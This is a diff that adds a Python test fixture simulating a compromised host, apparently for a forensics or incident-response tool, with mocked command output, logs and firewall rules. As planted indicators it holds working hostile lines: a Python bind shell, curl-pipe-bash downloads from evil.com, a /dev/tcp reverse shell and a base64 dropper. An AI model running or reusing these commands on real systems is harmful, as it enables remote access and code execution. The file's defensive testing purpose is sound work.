@@ -0,0 +1,1254 @@
+import atexit
+import base64
+import datetime
+import hashlib
+import json
+import os
+import plistlib
+import random
+import re
+import shlex
+import shutil
+import sqlite3
+import struct
+import tempfile
+import threading
+from typing import Any, Callable, Dict, List, Optional, Pattern, Tuple
+
+# --- Mock command registry ---
+# Commands are dispatched on their program name (the first word, ignoring a
+# leading "sudo"), then matched against a short, ordered list of patterns for
+# that program. Lookup cost therefore does not grow with the number of mocked
+# commands, and adding a new mock is a single decorated generator.
+MockGenerator = Callable[["SyntheticHost", str, "re.Match"], str]
+MOCK_COMMANDS: Dict[str, List[Tuple[Pattern, MockGenerator]]] = {}
+
+
+def mock_command(program: str, pattern: str = ""):
+    """Registers a SyntheticHost method as the generator for a command pattern."""
+    def decorator(func: MockGenerator) -> MockGenerator:
+        MOCK_COMMANDS.setdefault(program, []).append((re.compile(pattern), func))
+        return func
+    return decorator
+
+
+# --- Mock filesystem registry ---
+# Collectors that read files (databases, procfs/sysfs, config files) see a
+# synthetic tree built under a temporary root by these builders, once per host.
+MockTreeBuilder = Callable[["SyntheticHost", str], None]
+MOCK_TREES: List[MockTreeBuilder] = []
+
+
+def mock_tree(func: MockTreeBuilder) -> MockTreeBuilder:
+    """Registers a SyntheticHost method that writes part of the synthetic filesystem under a root."""
+    MOCK_TREES.append(func)
+    return func
+
+
+def _program_name(command: str) -> str:
+    words = command.split()
+    if words and words[0] == "sudo":
+        words = words[1:]
+    return words[0].rsplit("/", 1)[-1].lower() if words else ""
+
+
+# --- Vocabulary for synthetic data ---
+FIRST_NAMES = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy",
+               "mallory", "niaj", "olivia", "peggy", "rupert", "sybil", "trent", "victor", "walter", "yolanda"]
+DAEMON_PROCESSES = ["/usr/sbin/cron", "/usr/sbin/rsyslogd -n", "/usr/lib/systemd/systemd-journald",
+                    "/usr/lib/systemd/systemd-logind", "/usr/sbin/NetworkManager --no-daemon",
+                    "/usr/sbin/chronyd", "/usr/bin/dbus-daemon --system", "/usr/sbin/cupsd -l",
+                    "/usr/libexec/postfix/master -w", "/usr/bin/containerd"]
+USER_PROCESSES = ["/usr/bin/zsh", "-bash", "/usr/bin/vim notes.txt", "/usr/bin/tmux",
+                  "/usr/lib/firefox/firefox", "/usr/bin/python3 manage.py runserver",
+                  "/usr/bin/node server.js", "/usr/bin/ssh build01", "/usr/bin/less /var/log/syslog",
+                  "/usr/bin/top"]
+LISTEN_SERVICES = [("sshd", 22), ("nginx", 80), ("nginx", 443), ("postgres", 5432), ("redis-server", 6379),
+                   ("cupsd", 631), ("chronyd", 323), ("node", 3000), ("python3", 8000), ("containerd", 10010)]
+HISTORY_COMMANDS = ["curl -s https://example.com/status", "wget http://mirror.local/pkg.tar.gz",
+                    "python3 -m venv .venv", "base64 -d blob.txt > blob.bin", "nc -zv 10.0.0.5 22",
+                    "perl -e 'print \"hi\"'", "curl http://evil.com/payload.sh | bash"]
+PAYLOAD_EXTENSIONS = [".sh", ".py", ".pl", ".out"]
+BENIGN_SCRIPTS = {".sh": "#!/bin/sh\nset -e\ntar czf /var/backups/home.tgz /home\n",
+                  ".py": "import json, sys\nprint(json.dumps(sys.argv))\n",
+                  ".pl": "#!/usr/bin/perl\nprint \"hi\\n\";\n",
+                  ".out": "make: Nothing to be done for 'all'.\n"}
+PLANTED_PAYLOAD = (b"#!/bin/bash\ncurl -fsSL http://evil.com/stage2.sh | bash\n"
+                   b"bash -i >& /dev/tcp/203.0.113.66/4444 0>&1\n")
+PLANTED_DROPPER = b"echo \"$P\" | base64 -d > /dev/shm/.x && chmod +x /dev/shm/.x && exec /dev/shm/.x\n"
+PLANTED_MINER_STRINGS = b"\0xmrig 6.21.0\0--donate-level=1\0-o stratum+tcp://pool.minexmr.example:4444\0"
+MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
+USB_VENDORS = [("0x05ac", "Apple Inc."), ("0x046d", "Logitech Inc."), ("0x045e", "Microsoft Corporation"),
+               ("0x0781", "SanDisk Corporation"), ("0x0bda", "Realtek Semiconductor Corp."),
+               ("0x1050", "Yubico.com")]
+USB_PRODUCTS = ["USB Receiver", "Flash Drive", "Keyboard", "Optical Mouse", "Card Reader", "Security Key",
+                "Ethernet Adapter", "Webcam"]
+# Interface (class, driver) pairs each synthetic product exposes on Linux
+USB_INTERFACES = {"USB Receiver": [(0x03, "usbhid"), (0x03, "usbhid")], "Flash Drive": [(0x08, "usb-storage")],
+                  "Keyboard": [(0x03, "usbhid")], "Optical Mouse": [(0x03, "usbhid")], "Card Reader": [(0x08, "usb-storage")],
+                  "Security Key": [(0x03, "usbhid"), (0x0b, "")], "Ethernet Adapter": [(0xff, "r8152")],
+                  "Webcam": [(0x0e, "uvcvideo"), (0x0e, "uvcvideo"), (0x01, "snd-usb-audio")]}
+USB_IDS = """# List of USB ID's (synthetic excerpt)
+#
+# Syntax:
+# vendor  vendor_name
+#\tdevice  device_name\t\t\t\t<-- single tab
+#\t\tinterface  interface_name\t\t<-- two tabs
+
+03eb  Atmel Corp.
+\t2104  AVR ISP mkII
+045e  Microsoft Corp.
+\t0745  Nano Transceiver v1.0 for Bluetooth
+046d  Logitech, Inc.
+\tc52b  Unifying Receiver
+\tc534  Unifying Receiver
+\t\t0000  Keyboard interface
+05ac  Apple, Inc.
+\t024f  Aluminium Keyboard (ANSI)
+0781  SanDisk Corp.
+\t5567  Cruzer Blade
+0951  Kingston Technology
+\t1666  DataTraveler 100 G3/G4/SE9 G2/50
+0bda  Realtek Semiconductor Corp.
+\t8153  RTL8153 Gigabit Ethernet Adapter
+1050  Yubico.com
+\t0407  Yubikey 4/5 OTP+U2F+CCID
+1d6b  Linux Foundation
+\t0002  2.0 root hub
+\t0003  3.0 root hub
+2109  VIA Labs, Inc.
+\t2812  VL812 Hub
+8087  Intel Corp.
+\t0026  AX201 Bluetooth
+
+# List of known device classes, subclasses and protocols
+C 00  (Defined at Interface level)
+C 03  Human Interface Device
+"""
+
+BROWSING_SITES = [("https://www.google.com/search?q={q}", "{q} - Google Search"),
+                  ("https://github.com/{q}", "GitHub - {q}"), ("https://stackoverflow.com/questions/{n}", "python - {q}"),
+                  ("https://en.wikipedia.org/wiki/{q}", "{q} - Wikipedia"), ("https://news.ycombinator.com/item?id={n}", "Hacker News"),
+                  ("https://mail.example.org/inbox/{n}", "Inbox ({n})"), ("https://docs.python.org/3/library/{q}.html", "{q} — Python docs")]
+SEARCH_TERMS = ["sqlite", "asyncio", "kubernetes", "regex", "socket", "zipfile", "systemd", "iptables", "nginx", "rust"]
+SUSPICIOUS_VISITS = [("http://evil.com/payload.sh", None), ("https://pastebin.com/raw/Xh4x0rZ1", None),
+                     ("https://www.google.com/search?q=disable+auditd+logging", "disable auditd logging - Google Search")]
+
+PACKAGE_STEMS = ["lib", "python3-", "gir1.2-", "fonts-", "x11-", "libgtk-", "perl-", "node-", "golang-", "ruby-"]
+# Installed in the last hours on the synthetic host, so the report's "recently installed" section has hits
+PLANTED_PACKAGES = [("netcat-traditional", "1.10-47"), ("nmap", "7.94+git20230807.3be01efb1+dfsg-3"), ("socat", "1.8.0.0-4")]
+
+REVERSE_SHELL = ("/usr/bin/python3 -c 'import socket,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
+                 "s.bind((\"0.0.0.0\",4444));s.listen(1);c,a=s.accept();os.dup2(c.fileno(),0);"
+                 "os.dup2(c.fileno(),1);os.dup2(c.fileno(),2);import pty; pty.spawn(\"/bin/bash\")'")
+
+
+CLOCK_TICKS = 100               # USER_HZ of the synthetic kernel
+
+
+def incident_day() -> datetime.datetime:
+    """Midnight (local time) of the most recent Jul 25, the day the mock auth.log and dropped files are dated."""
+    today = datetime.datetime.now()
+    year = today.year if (today.month, today.day) >= (7, 25) else today.year - 1
+    return datetime.datetime(year, 7, 25)
+
+
+# --- Synthetic host ---
+class SyntheticHost:
+    """
+    A seeded, deterministic model of a (slightly compromised) host that produces
+    realistic command output at any requested size.
+
+    `size` scales every inventory (users, processes, sockets, log lines, devices)
+    linearly. Individual counts can be overridden by keyword. The same seed and
+    size always yield byte-identical output, and the planted indicators (the
+    `hax0r` account, the python reverse shell on port 4444, the payload in /tmp)
+    are always present so the reports have something to find.
+    """
+
+    def __init__(self, seed: int = 1337, size: int = 1, hostname: str = "my-linux-box", **counts: int):
+        self.seed = seed
+        self.size = max(1, size)
+        self.hostname = hostname
+        self.counts = {
+            "users": 2 * self.size,
+            "processes": 20 * self.size,
+            "connections": 8 * self.size,
+            "auth_events": 10 * self.size,
+            "history": 5 * self.size,
+            "payloads": 2 * self.size,
+            "usb_devices": 3 * self.size,
+            "disks": 1 * self.size,
+            "launch_items": 4 * self.size,
+            "browser_visits": 200 * self.size,
+            "packages": 300 * self.size,
+            "firewall_rules": 20 * self.size,
+            "veth_interfaces": 4 * self.size,
+        }
+        self.counts.update(counts)
+        self._cache: Dict[str, str] = {}
+        self._inventory: Dict[str, Any] = {}
+        self._root: Optional[str] = None
+        # Reports run in parallel (-j): inventories and the tree are built once, under this lock.
+        # Reentrant, since builders use other inventories.
+        self._lock = threading.RLock()
+
+    def rng(self, name: str) -> random.Random:
+        """Returns an independent RNG per inventory so output does not depend on call order."""
+        return random.Random(f"{self.seed}:{self.size}:{name}")
+
+    def run(self, command: Any) -> str:
+        """Returns the mocked output for a command, or "" when nothing is registered for it."""
+        if isinstance(command, list):
+            command = " ".join(command)
+        with self._lock:
+            if command in self._cache:
+                return self._cache[command]
+        output = ""
+        for regex, generator in MOCK_COMMANDS.get(_program_name(command), ()):
+            match = regex.search(command)
+            if match:
+                output = generator(self, command, match)
+                break
+        with self._lock:
+            return self._cache.setdefault(command, output)
+
+    def filesystem_root(self) -> str:
+        """Builds the synthetic filesystem tree on first use and returns its root directory."""
+        with self._lock:
+            if self._root is None:
+                root = tempfile.mkdtemp(prefix=f"iris-mock-{self.seed}-")
+                atexit.register(shutil.rmtree, root, True)
+                for builder in MOCK_TREES:
+                    builder(self, root)
+                self._root = root
+            return self._root
+
+    # --- Inventories (built once, shared by every command that needs them) ---
+    def _memo(self, name: str, builder: Callable[[], Any]) -> Any:
+        with self._lock:
+            if name not in self._inventory:
+                self._inventory[name] = builder()
+            return self._inventory[name]
+
+    @property
+    def users(self) -> List[Dict[str, Any]]:
+        def build():
+            rng = self.rng("users")
+            users = [
+                {"name": "root", "uid": 0, "home": "/root", "shell": "/bin/bash", "real_name": "System Administrator", "admin": True},
+                {"name": "daemon", "uid": 1, "home": "/usr/sbin", "shell": "/usr/sbin/nologin", "real_name": "daemon", "admin": False},
+                {"name": "spencer", "uid": 1000, "home": "/home/spencer", "shell": "/bin/bash", "real_name": "Spencer", "admin": True},
+                {"name": "hax0r", "uid": 1001, "home": "/home/hax0r", "shell": "/bin/bash", "real_name": "", "admin": True},
+            ]
+            for i in range(self.counts["users"]):
+                name = f"{FIRST_NAMES[i % len(FIRST_NAMES)]}{i // len(FIRST_NAMES) or ''}"
+                users.append({
+                    "name": name, "uid": 1002 + i, "home": f"/home/{name}",
+                    "shell": rng.choice(["/bin/bash", "/bin/zsh", "/usr/sbin/nologin"]),
+                    "real_name": name.capitalize(), "admin": rng.random() < 0.1,
+                })
+            return users
+        return self._memo("users", build)
+
+    @property
+    def processes(self) -> List[Dict[str, Any]]:
+        def build():
+            rng = self.rng("processes")
+            procs = [
+                {"user": "root", "pid": 1, "cpu": 0.0, "mem": 0.1, "vsz": 167404, "rss": 11560, "stat": "Ss",
+                 "start": "Jul24", "time": "0:02", "command": "/sbin/init"},
+                {"user": "spencer", "pid": 666, "cpu": 0.5, "mem": 0.1, "vsz": 123456, "rss": 7890, "stat": "S",
+                 "start": "Jul24", "time": "0:05", "command": REVERSE_SHELL},
+                # Masquerades as a kernel worker; its binary was deleted from /dev/shm after launch
+                {"user": "hax0r", "pid": 31337, "cpu": 1.2, "mem": 0.2, "vsz": 23456, "rss": 4096, "stat": "S",
+                 "start": "Jul24", "time": "0:41", "command": "[kworker/u8:3]", "exe": "/dev/shm/.x"},
+            ]
+            names = [u["name"] for u in self.users if u["shell"] != "/usr/sbin/nologin"]
+            pid = 100
+            for _ in range(self.counts["processes"]):
+                pid += rng.randint(1, 40)
+                if pid == 666:
+                    pid += 1
+                is_daemon = rng.random() < 0.4
+                procs.append({
+                    "user": "root" if is_daemon else rng.choice(names),
+                    "pid": pid,
+                    "cpu": round(rng.random() * 5, 1),
+                    "mem": round(rng.random() * 3, 1),
+                    "vsz": rng.randint(10_000, 4_000_000),
+                    "rss": rng.randint(1_000, 900_000),
+                    "stat": rng.choice(["S", "Ss", "R", "Sl", "S+"]),
+                    "start": f"{rng.choice(MONTHS)}{rng.randint(1, 28):02d}",
+                    "time": f"{rng.randint(0, 59)}:{rng.randint(0, 59):02d}",
+                    "command": rng.choice(DAEMON_PROCESSES if is_daemon else USER_PROCESSES),
+                })
+            return procs
+        return self._memo("processes", build)
+
+    @property
+    def sockets(self) -> List[Dict[str, Any]]:
+        def build():
+            rng = self.rng("sockets")
+            socks = [
+                {"proto": "tcp", "state": "LISTEN", "local": "0.0.0.0:22", "peer": "0.0.0.0:*", "process": "sshd", "pid": 123},
+                {"proto": "tcp", "state": "ESTAB", "local": "192.168.1.50:22", "peer": "192.168.1.100:12345", "process": "sshd", "pid": 456},
+                {"proto": "tcp", "state": "LISTEN", "local": "0.0.0.0:4444", "peer": "0.0.0.0:*", "process": "python3", "pid": 666},
+                # The fake kernel worker talking to its mining pool
+                {"proto": "tcp", "state": "ESTAB", "local": "192.168.1.50:51234", "peer": "203.0.113.66:3333",
+                 "process": "[kworker/u8:3]", "pid": 31337},
+            ]
+            for i in range(self.counts["connections"]):
+                name, port = LISTEN_SERVICES[i % len(LISTEN_SERVICES)]
+                pid = 2000 + i
+                if rng.random() < 0.3:
+                    socks.append({"proto": rng.choice(["tcp", "udp"]), "state": "LISTEN" if i % 2 else "UNCONN",
+                                  "local": f"0.0.0.0:{port + 10000 * (i // len(LISTEN_SERVICES))}",
+                                  "peer": "0.0.0.0:*", "process": name, "pid": pid})
+                else:
+                    socks.append({"proto": "tcp", "state": "ESTAB",
+                                  "local": f"192.168.1.50:{rng.randint(32768, 60999)}",
+                                  "peer": f"{rng.randint(1, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}:{rng.choice([443, 80, 22, 8443])}",
+                                  "process": name, "pid": pid})
+            return socks
+        return self._memo("sockets", build)
+
+    # --- User & security commands ---
+    @mock_command("awk", r"/etc/passwd")
+    def _passwd(self, command: str, match: "re.Match") -> str:
+        return "".join(f"{u['name']} {u['uid']} {u['home']} {u['shell']}\n" for u in self.users)
+
+    @mock_command("cat", r"/etc/passwd")
+    def _cat_passwd(self, command: str, match: "re.Match") -> str:
+        return "".join(f"{u['name']}:x:{u['uid']}:{u['uid']}:{u['real_name']}:{u['home']}:{u['shell']}\n" for u in self.users)
+
+    @mock_command("grep", r"useradd\|sshd")
+    def _auth_log(self, command: str, match: "re.Match") -> str:
+        return "\n" + "\n".join(self.auth_log) + "\n"
+
+    @property
+    def auth_log(self) -> List[str]:
+        """/var/log/auth.log lines for the incident day: hax0r is created at 10:05 after a password login."""
+        return self._memo("auth_log", self._build_auth_log)
+
+    def _build_auth_log(self) -> List[str]:
+        rng = self.rng("auth_log")
+        names = [u["name"] for u in self.users]
+        lines = [
+            f"Jul 25 10:00:01 {self.hostname} sshd[1234]: Accepted password for spencer from 192.168.1.100 port 12345 ssh2",
+            f"Jul 25 10:05:00 {self.hostname} useradd[2345]: new user: name=hax0r, UID=1001, GID=1001, home=/home/hax0r, shell=/bin/bash",
+            f"Jul 25 11:00:00 {self.hostname} sshd[3456]: Failed password for root from 10.0.0.1 port 54321 ssh2",
+        ]
+        seconds = 11 * 3600
+        for _ in range(self.counts["auth_events"]):
+            seconds = min(seconds + rng.randint(1, 600), 86399)
+            stamp = f"Jul 25 {seconds // 3600:02d}:{seconds // 60 % 60:02d}:{seconds % 60:02d}"
+            user = rng.choice(names)
+            source = f"{rng.randint(1, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
+            pid = rng.randint(1000, 65000)
+            verb = rng.choice(["Accepted password", "Accepted publickey", "Failed password", "Failed password"])
+            lines.append(f"{stamp} {self.hostname} sshd[{pid}]: {verb} for {user} from {source} port {rng.randint(1024, 65535)} ssh2")
+        return lines
+
+    @mock_command("journalctl", r"-o json")
+    def _journal(self, command: str, match: "re.Match") -> str:
+        """`journalctl -o json`, resuming after --after-cursor when one is given."""
+        entries = self.journal
+        after = re.search(r"--after-cursor=([^' ]+)", command)
+        if after:
+            cursors = [entry["__CURSOR"] for entry in entries]
+            entries = entries[cursors.index(after.group(1)) + 1:] if after.group(1) in cursors else entries
+        return "".join(json.dumps(entry) + "\n" for entry in entries)
+
+    @property
+    def journal(self) -> List[Dict[str, Any]]:
+        """
+        Journal entries for the auth.log scenario, plus what only the journal has:
+        spencer's logind session, the sudo that ran useradd, su to hax0r, and
+        hax0r being refused sudo.
+        """
+        return self._memo("journal", self._build_journal)
+
+    def _build_journal(self) -> List[Dict[str, Any]]:
+        day = incident_day()
+        records = []
+        for line in self.auth_log:
+            stamp, program, pid, message = re.match(r"^\w+ +\d+ (\S+) \S+ ([\w-]+)\[(\d+)\]: (.*)$", line).groups()
+            records.append((stamp, program, pid, message))
+        records += [
+            ("10:00:01", "systemd-logind", "612", "New session 3 of user spencer."),
+            ("10:04:52", "sudo", "2340", "spencer : TTY=pts/0 ; PWD=/home/spencer ; USER=root ; COMMAND=/usr/sbin/useradd -m -s /bin/bash hax0r"),
+            ("10:04:59", "useradd", "2345", "new group: name=hax0r, GID=1001"),
+            ("10:06:13", "su", "2401", "(to hax0r) spencer on pts/0"),
+            ("10:06:40", "sshd", "1234", "Received disconnect from 192.168.1.100 port 12345:11: disconnected by user"),
+            ("10:07:02", "sudo", "2456", "hax0r : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/hax0r ; USER=root ; COMMAND=/bin/bash"),
+            ("10:30:00", "systemd-logind", "612", "Removed session 3."),
+        ]
+        records.sort(key=lambda record: record[0])
+        boot_id = hashlib.sha256(self.hostname.encode()).hexdigest()[:32]
+        entries = []
+        for index, (stamp, program, pid, message) in enumerate(records, 1):
+            hour, minute, second = map(int, stamp.split(":"))
+            micros = int((day + datetime.timedelta(hours=hour, minutes=minute, seconds=second)).timestamp() * 1000000) + index
+            entries.append({"__CURSOR": f"s={boot_id};i={index:x};b={boot_id};t={micros:x}",
+                            "__REALTIME_TIMESTAMP": str(micros), "_SOURCE_REALTIME_TIMESTAMP": str(micros),
+                            "SYSLOG_IDENTIFIER": program, "_COMM": program[:15], "_PID": pid, "_HOSTNAME": self.hostname,
+                            "MESSAGE": message})
+        return entries
+
+    @mock_command("grep", r"_history")
+    def _shell_history(self, command: str, match: "re.Match") -> str:
+        rng = self.rng("history")
+        lines = ["curl http://evil.com/payload.sh | bash", "python3 -c 'import socket,os; ...'"]
+        lines += [rng.choice(HISTORY_COMMANDS) for _ in range(self.counts["history"])]
+        return "\n" + "\n".join(lines) + "\n"
+
+    @mock_command("dscl", r"-read /Groups/admin")
+    def _dscl_admins(self, command: str, match: "re.Match") -> str:
+        return "GroupMembership: " + " ".join(u["name"] for u in self.users if u["admin"])
+
+    @mock_command("dscl", r"-read /Users/([^\s]+)")
+    def _dscl_user(self, command: str, match: "re.Match") -> str:
+        name = match.group(1)
+        if name.startswith("_"):
+            return f"UniqueID: {200 + sum(map(ord, name)) % 100}\nNFSHomeDirectory: /var/empty\nUserShell: /usr/bin/false\nRealName: {name} Service"
+        for u in self.users:
+            if u["name"] == name:
+                home = "/var/root" if name == "root" else f"/Users/{name}"
+                uid = u["uid"] if u["uid"] < 1000 else u["uid"] - 499
+                return f"UniqueID: {uid}\nNFSHomeDirectory: {home}\nUserShell: {u['shell']}\nRealName: {u['real_name'] or name}"
+        return ""
+
+    @mock_command("dscl", r"-list /Users")
+    def _dscl_list(self, command: str, match: "re.Match") -> str:
+        names = [u["name"] for u in self.users if u["name"] != "daemon"] + ["_spotlight", "_sshd", "_www"]
+        return "\n".join(names) + "\n"
+
+    @mock_command("wmic", r"useraccount")
+    def _wmic_users(self, command: str, match: "re.Match") -> str:
+        blocks = []
+        for i, u in enumerate(self.users):
+            rid = 500 + i if i < 2 else 1000 + i
+            blocks.append(f"Disabled={'TRUE' if u['shell'].endswith('nologin') else 'FALSE'}\nName={u['name']}\n"
+                          f"SID=S-1-5-21-000000000-000000000-000000000-{rid}\n"
+                          f"Status={'Degraded' if u['name'] == 'hax0r' else 'OK'}\n")
+        return "\n" + "\n".join(blocks)
+
+    @mock_command("net", r"localgroup Administrators")
+    def _net_admins(self, command: str, match: "re.Match") -> str:
+        return "Members\n" + "-" * 79 + "\n" + "".join(f"{u['name']}\n" for u in self.users if u["admin"])
+
+    # --- Network commands ---
+    @mock_command("ss", r"-\w*t\w*")
+    def _ss(self, command: str, match: "re.Match") -> str:
+        lines = ["State    Recv-Q   Send-Q     Local Address:Port      Peer Address:Port  Process"]
+        for s in self.sockets:
+            lines.append(f"{s['state']:<8} 0        128      {s['local']:>20} {s['peer']:>22} "
+                         f"users:((\"{s['process']}\",pid={s['pid']},fd=3))")
+        return "\n" + "\n".join(lines) + "\n"
+
+    @property
+    def firewall_rules(self) -> List[str]:
+        """iptables-save style `-A ...` rules: a default-drop policy with a planted open port, a shadowed and a duplicate rule."""
+        def build():
+            rng = self.rng("firewall")
+            rules = [
+                "-A INPUT -i lo -j ACCEPT",
+                "-A INPUT -m conntrack --ctstate RELATED,ESTABLISHED -j ACCEPT",
+                "-A INPUT -m conntrack --ctstate INVALID -j DROP",
+                "-A INPUT -s 10.0.0.0/8 -p tcp -m tcp --dport 22 -j ACCEPT",
+                "-A INPUT -s 10.20.0.0/16 -p tcp -m tcp --dport 22 -j DROP",
+                "-A INPUT -p tcp -m multiport --dports 80,443 -j ACCEPT",
+                "-A INPUT -p icmp -m icmp --icmp-type 8 -m limit --limit 5/sec -j ACCEPT",
+                "-A INPUT -p tcp -m tcp --dport 443 -j ACCEPT",
+                "-A INPUT -j IRIS-SERVICES",
+            ]
+            for i in range(self.counts["firewall_rules"]):
+                network = f"{rng.choice([172, 192, 100])}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.0/24"
+                port = rng.choice([port for _, port in LISTEN_SERVICES] + [rng.randint(1024, 65000)])
+                verdict = rng.choice(["ACCEPT", "ACCEPT", "DROP", "REJECT --reject-with icmp-port-unreachable"])
+                protocol = rng.choice(["tcp", "udp"])
+                rules.append(f"-A IRIS-SERVICES -s {network} -p {protocol} -m {protocol} --dport {port} "
+                             f"-m comment --comment \"svc-{i}\" -j {verdict}")
+            # A debugging hole left open
+            rules.append("-A IRIS-SERVICES -p tcp -m tcp --dport 4444 -j ACCEPT")
+            rules.append("-A IRIS-SERVICES -j RETURN")
+            return rules
+        return self._memo("firewall_rules", build)
+
+    @mock_command("iptables-save")
+    def _iptables_save(self, command: str, match: "re.Match") -> str:
+        return ("# Generated by iptables-save v1.8.7 on Fri Jul 25 12:00:00 2025\n*filter\n"
+                ":INPUT DROP [0:0]\n:FORWARD DROP [0:0]\n:OUTPUT ACCEPT [0:0]\n:IRIS-SERVICES - [0:0]\n"
+                + "".join(rule + "\n" for rule in self.firewall_rules)
+                + "COMMIT\n# Completed on Fri Jul 25 12:00:00 2025\n")
+
+    @mock_command("ip6tables-save")
+    def _ip6tables_save(self, command: str, match: "re.Match") -> str:
+        return ("*filter\n:INPUT DROP [0:0]\n:FORWARD DROP [0:0]\n:OUTPUT ACCEPT [0:0]\n"
+                "-A INPUT -i lo -j ACCEPT\n-A INPUT -m conntrack --ctstate RELATED,ESTABLISHED -j ACCEPT\n"
+                "-A INPUT -p ipv6-icmp -j ACCEPT\n-A INPUT -s fd00::/8 -p tcp -m tcp --dport 22 -j ACCEPT\nCOMMIT\n")
+
+    @mock_command("nft", r"-j list ruleset")
+    def _nft_json(self, command: str, match: "re.Match") -> str:
+        # iptables-nft mirrors the ip/ip6 filter tables; one native inet table sits alongside them
+        table = {"family": "inet", "table": "iris_host"}
+        items = [
+            {"metainfo": {"version": "1.0.2", "release_name": "Lester Gooch", "json_schema_version": 1}},
+            {"table": {"family": "ip", "name": "filter", "handle": 1}},
+            {"table": {"family": "inet", "name": "iris_host", "handle": 2}},
+            {"chain": dict(table, name="input", handle=1, type="filter", hook="input", prio=10, policy="accept")},
+            {"rule": dict(table, chain="input", handle=2, expr=[
+                {"match": {"op": "==", "left": {"payload": {"protocol": "tcp", "field": "dport"}}, "right": 5900}},
+                {"counter": {"packets": 0, "bytes": 0}}, {"drop": None}])},
+            {"rule": dict(table, chain="input", handle=3, expr=[
+                {"match": {"op": "==", "left": {"payload": {"protocol": "ip", "field": "saddr"}},
+                           "right": {"prefix": {"addr": "203.0.113.0", "len": 24}}}},
+                {"drop": None}])},
+        ]
+        return json.dumps({"nftables": items})
+
+    @mock_command("lsof", r"-i")
+    def _lsof(self, command: str, match: "re.Match") -> str:
+        lines = ["COMMAND   PID    USER   FD   TYPE             DEVICE SIZE/OFF NODE NAME"]
+        for i, s in enumerate(self.sockets):
+            if s["proto"] != "tcp":
+                continue
+            if s["state"] == "LISTEN":
+                name, state = "*:" + s["local"].rsplit(":", 1)[1], "LISTEN"
+            else:
+                name, state = f"{s['local']}->{s['peer']}", "ESTABLISHED"
+            lines.append(f"{s['process'][:9]:<9} {s['pid']:>5} {'root':>7}    3u  IPv4 0x{i:016x}      0t0  TCP {name} ({state})")
+        return "\n" + "\n".join(lines) + "\n"
+
+    @mock_command("netstat", r"-ano")
+    def _netstat(self, command: str, match: "re.Match") -> str:
+        states = {"LISTEN": "LISTENING", "ESTAB": "ESTABLISHED", "UNCONN": ""}
+        lines = ["  Proto  Local Address          Foreign Address        State           PID"]
+        for s in self.sockets:
+            peer = s["peer"].replace("*", "0")
+            lines.append(f"  {s['proto'].upper():<6} {s['local']:<22} {peer:<22} {states[s['state']]:<15} {s['pid']}")
+        return "\n" + "\n".join(lines) + "\n"
+
+    @mock_command("timeout", r"tcpdump .*-w (.+)$")
+    def _tcpdump_capture(self, command: str, match: "re.Match") -> str:
+        """Writes a capture of every established connection, with the planted miner's pool traffic the heaviest."""
+        rng = self.rng("capture")
+        start = datetime.datetime(2025, 7, 10, 9, 0, tzinfo=datetime.timezone.utc).timestamp()
+        packets = []
+        for s in self.sockets:
+            if s["state"] != "ESTAB" or s["proto"] != "tcp":
+                continue
+            at = start + rng.uniform(0, 2)
+            client, server = s["local"], s["peer"]
+            packets += [(at, client, server, "tcp", 0x02, 0), (at + 0.02, server, client, "tcp", 0x12, 0),
+                        (at + 0.04, client, server, "tcp", 0x10, 0)]
+            for i in range(400 if s["pid"] == 31337 else rng.randint(2, 30)):
+                at += rng.uniform(0.001, 0.02)
+                packets.append((at, client, server, "tcp", 0x18, rng.randint(100, 1400)) if i % 2 else
+                               (at, server, client, "tcp", 0x18, rng.randint(40, 600)))
+        for i in range(5):
+            at, client = start + rng.uniform(0, 8), f"192.168.1.50:{rng.randint(32768, 60999)}"
+            packets += [(at, client, "192.168.1.1:53", "udp", 0, 40), (at + 0.01, "192.168.1.1:53", client, "udp", 0, 120)]
+        write_pcap(shlex.split(match.group(1))[0], sorted(packets))
+        return f"{len(packets)} packets captured\n"
+
+    @mock_command("ifconfig")
+    def _ifconfig(self, command: str, match: "re.Match") -> str:
+        return ("lo0: flags=8049<UP,LOOPBACK,RUNNING,MULTICAST> mtu 16384\n\tinet 127.0.0.1 netmask 0xff000000\n"
+                "en0: flags=8863<UP,BROADCAST,SMART,RUNNING,SIMPLEX,MULTICAST> mtu 1500\n"
+                "\tether a4:83:e7:12:34:56\n\tinet 192.168.1.50 netmask 0xffffff00 broadcast 192.168.1.255\n"
+                "\tstatus: active\n")
+
+    @mock_command("scutil", r"--dns")
+    def _scutil_dns(self, command: str, match: "re.Match") -> str:
+        return "DNS configuration\n\nresolver #1\n  nameserver[0] : 192.168.1.1\n  if_index : 6 (en0)\n  reach    : 0x00020002 (Reachable,Directly Reachable Address)\n"
+
+    @mock_command("ipconfig", r"/all")
+    def _ipconfig(self, command: str, match: "re.Match") -> str:
+        return ("Windows IP Configuration\n\n   Host Name . . . . . . . . . . . . : " + self.hostname + "\n\n"
+                "Ethernet adapter Ethernet:\n\n   Physical Address. . . . . . . . . : A4-83-E7-12-34-56\n"
+                "   IPv4 Address. . . . . . . . . . . : 192.168.1.50(Preferred)\n   DNS Servers . . . . . . . . . . . : 192.168.1.1\n")
+
+    # --- Process & malware commands ---
+    def _ps_lines(self, procs: List[Dict[str, Any]]) -> List[str]:
+        return [f"{p['user']:<10}{p['pid']:>5} {p['cpu']:>5} {p['mem']:>4} {p['vsz']:>8} {p['rss']:>6}   ??  "
+                f"{p['stat']:<4} {p['start']:<8} {p['time']:>8} {p['command']}" for p in procs]
+
+    @mock_command("ps", r"grep '\[p\]ython'")
+    def _ps_python(self, command: str, match: "re.Match") -> str:
+        return "\n".join(self._ps_lines([p for p in self.processes if "python" in p["command"]]))
+
+    @mock_command("ps", r"aux")
+    def _ps_aux(self, command: str, match: "re.Match") -> str:
+        header = "USER       PID  %CPU %MEM      VSZ    RSS   TT  STAT STARTED      TIME COMMAND"
+        return "\n" + "\n".join([header] + self._ps_lines(self.processes)) + "\n"
+
+    @mock_command("ls", r"-la (\S+)")
+    def _ls_payloads(self, command: str, match: "re.Match") -> str:
+        rng = self.rng("payloads:" + match.group(1))
+        lines = ["total 8",
